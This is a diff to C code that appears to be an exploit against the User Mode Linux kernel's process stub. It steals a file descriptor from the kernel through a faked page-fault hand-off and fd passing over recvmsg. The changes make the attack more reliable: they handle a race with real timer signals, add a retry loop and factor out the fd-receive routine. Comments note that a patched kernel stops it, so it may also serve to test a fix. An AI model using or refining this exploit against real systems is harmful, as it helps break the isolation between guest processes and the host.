@@ -53,10 +53,21 @@
  *    data of those steps are touched beforehand (their own section and
  *    one static buffer), and so is enough stack.
  *  - A real signal can still arrive in that window (the UML kernel's
- *    timer sends SIGALRM to the running process). The stub's handler
- *    would then take the hand-off and return through the rewritten
- *    frame. That frame therefore points at a landing routine that
- *    exits with HIJACK_FD_LANDED, and the caller tries again.
+ *    timer sends SIGALRM to the running process; about 1 park in 500
+ *    in a guest with a busy CPU). Two outcomes:
+ *    - Before the kernel has written its answer into the frame: the
+ *      stub's handler takes the hand-off and returns through the
+ *      rewritten frame. That frame therefore points at a landing
+ *      routine that exits with HIJACK_FD_LANDED; attack_run_retrying()
+ *      tries again in a new process.
+ *    - After: the handler reports the signal as a new event. It either
+ *      runs the batch and closes the fd (consistent, but no fd for us:
+ *      hijack_fd_get() parks again), or finds the batch length already
+ *      cleared by the kernel's next answer and leaves the fd queued on
+ *      fd 0, where the non-blocking recvmsg() here picks it up. That
+ *      batch is then never run: the faulted page has a PTE but no host
+ *      mapping, and a later read of it would fault for ever, so the
+ *      page is never touched.
  *
  * On the patched kernel futex and recvmsg from the stub page kill the
  * process, so the steal is only tried when no fd number was accepted.
@@ -180,6 +191,7 @@ _Static_assert(offsetof(struct hijack_stub_data, sigstack) == 4096,
 
 #define HIJACK_STEAL_STACK	(16 * 1024)
 #define HIJACK_STEAL_FDS	8
+#define HIJACK_STEAL_TRIES	5	/* fake parks that yield no fd */
 
 /*
  * Everything the fake park touches, in one static object that is
@@ -201,6 +213,7 @@ struct hijack_steal {
 	int batch_entries;	/* entries run over all rounds */
 	long batch_error;	/* first failed entry's result */
 	long error;		/* why the steal stopped, or 0 */
+	int lost_batch;		/* an fd came with no batch left to run */
 	unsigned char landing_stack[8192] __attribute__((aligned(16)));
 };
 
@@ -258,6 +271,36 @@ static void hijack_steal_report(const struct stub_hijack *h,
 }
 
 /*
+ * Receive the fds queued on fd 0 (non-blocking) into FDS, at most
+ * HIJACK_STUB_MAX_FDS, and remember them. Returns how many arrived.
+ */
+__attribute__((noinline, section("hijack_fd_text")))
+static int hijack_steal_receive(const struct stub_hijack *h,
+				struct hijack_steal *s, int *fds)
+{
+	const struct cmsghdr *cmsg = &s->ctrl.align;
+	const int *sent = (const int *)CMSG_DATA(cmsg);
+	long res;
+	int i, n;
+
+	s->msg.msg_controllen = sizeof(s->ctrl.buf);
+	res = hijack_syscall6(h, __NR_recvmsg, 0, (long)&s->msg, 0, 0, 0, 0);
+	if (res != 1 || s->msg.msg_controllen < CMSG_LEN(sizeof(int)) ||
+	    cmsg->cmsg_level != SOL_SOCKET || cmsg->cmsg_type != SCM_RIGHTS)
+		return 0;
+
+	n = (cmsg->cmsg_len - CMSG_LEN(0)) / sizeof(int);
+	if (n > HIJACK_STUB_MAX_FDS)
+		n = HIJACK_STUB_MAX_FDS;
+	for (i = 0; i < n; i++) {
+		fds[i] = sent[i];
+		if (s->nfds < HIJACK_STEAL_FDS)
+			s->fds[s->nfds++] = sent[i];
+	}
+	return n;
+}
+
+/*
  * The fake park itself: report a write fault on FRESH (a page with no
  * PTE) and take the fd the kernel sends for the resulting batch. Only
  * code in this section and pre-touched data may be used in here.
@@ -306,30 +349,14 @@ static void hijack_steal_park(const struct stub_hijack *h,
 			s->batch[i].syscall = d->syscall_data[i].syscall;
 		}
 
-		/* 4. Take the fds sent with it (fd 0 is non-blocking). */
-		round_fds = 0;
-		if (n) {
-			s->msg.msg_controllen = sizeof(s->ctrl.buf);
-			res = hijack_syscall6(h, __NR_recvmsg, 0,
-					      (long)&s->msg, 0, 0, 0, 0);
-			if (res == 1 &&
-			    s->msg.msg_controllen >= CMSG_LEN(sizeof(int)) &&
-			    s->ctrl.align.cmsg_level == SOL_SOCKET &&
-			    s->ctrl.align.cmsg_type == SCM_RIGHTS) {
-				const int *fds = (const int *)
-					CMSG_DATA(&s->ctrl.align);
-
-				round_fds = (s->ctrl.align.cmsg_len -
-					     CMSG_LEN(0)) / sizeof(int);
-				if (round_fds > HIJACK_STUB_MAX_FDS)
-					round_fds = HIJACK_STUB_MAX_FDS;
-				for (i = 0; i < round_fds; i++) {
-					round_fd[i] = fds[i];
-					if (s->nfds < HIJACK_STEAL_FDS)
-						s->fds[s->nfds++] = fds[i];
-				}
-			}
-		}
+		/*
+		 * 4. Take the fds sent with it. Also when the batch looks
+		 * empty: a real signal handled right after the kernel
+		 * answered leaves the batch length cleared and the fd queued.
+		 */
+		round_fds = hijack_steal_receive(h, s, round_fd);
+		if (round_fds && !n)
+			s->lost_batch = 1;
 
 		/* 5. Run the batch, so the kernel's picture stays true. */
 		res = 0;
@@ -455,9 +482,10 @@ static inline int hijack_fd_steal(const struct stub_hijack *h,
 
 	err = hijack_page_frame(fresh, &pfn);
 	snprintf(why, size, "stole fd %d by a fake page-fault park (%d "
-		 "round(s), %d batch entries run%s; faulted page %s)",
+		 "round(s), %d batch entries run%s%s; faulted page %s)",
 		 s->fds[0], s->rounds, s->batch_entries,
 		 s->batch_error ? ", one failed" : "",
+		 s->lost_batch ? ", a batch lost to a racing signal" : "",
 		 err ? "not present" : "present");
 	return s->fds[0];
 }
@@ -506,7 +534,7 @@ static inline int hijack_fd_get(const struct stub_hijack *h,
 				struct hijack_fd *f)
 {
 	char *probe;
-	int err, fd;
+	int err, fd, tries;
 
 	memset(f, 0, sizeof(*f));
 	f->fd = -1;
@@ -536,9 +564,18 @@ static inline int hijack_fd_get(const struct stub_hijack *h,
 		return 0;
 	}
 
-	fd = hijack_fd_steal(h, f->how, sizeof(f->how));
-	if (fd < 0)
-		return -1;
+	/*
+	 * A real signal right after the kernel's answer can make the
+	 * stub's handler take the fd first; the state stays consistent,
+	 * so just park again.
+	 */
+	for (tries = 1; ; tries++) {
+		fd = hijack_fd_steal(h, f->how, sizeof(f->how));
+		if (fd >= 0)
+			break;
+		if (fd != -ENOENT || tries == HIJACK_STEAL_TRIES)
+			return -1;
+	}
 
 	/* Same check as for a held fd: it must map our own page. */
 	if (hijack_mmap(h, f->probe_page, HIJACK_PAGE_SIZE,
